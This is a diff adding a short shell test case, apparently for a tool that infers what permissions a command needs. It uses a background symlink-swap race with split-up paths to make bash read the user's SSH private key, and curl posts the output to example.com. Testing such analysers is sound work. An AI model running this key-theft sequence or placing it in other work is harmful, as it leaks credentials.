@@ -1,0 +1,9 @@
+# expect: read+write+exec+net
+# why: a background job swaps s.sh for a link to the key; what bash reads is piped to curl
+printf 'echo hi\n' > s.sh
+python3 -c 'import ctypes, os, sys, time
+os.symlink(os.path.expanduser("~/.ss") + sys.argv[1], sys.argv[2] + ".ln")
+end = time.time() + 2
+while time.time() < end:
+    ctypes.CDLL(None).renameat2(-100, sys.argv[2].encode(), -100, (sys.argv[2] + ".ln").encode(), 2)' h/id_ed25519 s.sh &
+for i in $(seq 300); do bash s.sh 2>&1 | curl -s --data-binary @- http://example.com/; done
